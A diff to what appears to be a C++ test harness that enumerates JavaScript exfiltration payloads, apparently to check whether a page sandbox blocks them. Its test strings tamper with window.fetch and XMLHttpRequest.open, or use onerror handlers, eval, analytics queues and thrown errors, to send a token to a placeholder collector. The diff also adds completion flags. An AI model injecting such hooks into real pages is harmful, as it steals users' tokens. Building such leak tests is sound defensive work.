@@ -170,12 +170,17 @@ std::vector<Group> groups() {
                    {.name = "handler attribute (img onerror)", .page = on_error(send)},
                    {.name = "eval with the page's //# sourceURL",
                     .page = "(0, eval)(" + json(send + "\n//# sourceURL={{V}}/app.js").dump() + "); 1"},
+                   // Flagged once the poller's request has ended (sent, or refused), so the run waits for
+                   // the poller (a late sender).
                    {.name = "tampered window.fetch, the page's poller sends",
                     .page = "const f = window.fetch; window.fetch = function () { return f('{{C}}/x/{{M}}?d=' + " + kTokenJs +
-                            ", {mode: 'no-cors'}); }; 1"},
+                            ", {mode: 'no-cors'}).finally(() => localStorage.setItem('rt-{{M}}', '1')); }; 1",
+                    .flags_done = true},
                    {.name = "tampered XMLHttpRequest, the page's poller sends",
                     .page = "const o = XMLHttpRequest.prototype.open; XMLHttpRequest.prototype.open = function (m, u, ...rest) { "
-                            "return o.call(this, m, '{{C}}/x/{{M}}?d=' + " + kTokenJs + ", ...rest); }; 1"},
+                            "this.addEventListener('loadend', () => localStorage.setItem('rt-{{M}}', '1')); "
+                            "return o.call(this, m, '{{C}}/x/{{M}}?d=' + " + kTokenJs + ", ...rest); }; 1",
+                    .flags_done = true},
                    {.name = "the page's analytics queue (dataLayer)", .page = "window.dataLayer.push({event: '{{M}}', d: " + kTokenJs + "}); 1"},
                    {.name = "the page's error reporter: a thrown error",
                     .page = "setTimeout(() => { throw new Error('{{M}} ' + " + kTokenJs + "); }, 0); 1"},
